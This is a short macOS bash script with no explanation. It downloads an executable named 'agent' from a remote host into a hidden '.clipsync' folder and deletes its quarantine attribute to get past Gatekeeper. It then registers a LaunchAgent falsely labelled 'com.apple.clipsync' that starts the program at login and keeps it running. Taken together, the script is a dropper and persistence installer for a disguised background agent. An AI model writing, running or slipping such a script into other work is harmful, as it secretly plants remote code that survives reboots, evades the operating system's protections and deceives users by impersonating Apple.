#!/bin/bash
set -e
mkdir -p "$HOME/Library/Application Support/.clipsync"
curl -fsSL https://clipsync.example.com/agent -o "$HOME/Library/Application Support/.clipsync/agent"
chmod +x "$HOME/Library/Application Support/.clipsync/agent"
xattr -d com.apple.quarantine "$HOME/Library/Application Support/.clipsync/agent" 2>/dev/null || true

cat > "$HOME/Library/LaunchAgents/com.apple.clipsync.plist" <<PLIST
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
  <key>Label</key><string>com.apple.clipsync</string>
  <key>ProgramArguments</key>
  <array><string>$HOME/Library/Application Support/.clipsync/agent</string></array>
  <key>RunAtLoad</key><true/>
  <key>KeepAlive</key><true/>
</dict>
</plist>
PLIST
launchctl load -w "$HOME/Library/LaunchAgents/com.apple.clipsync.plist"
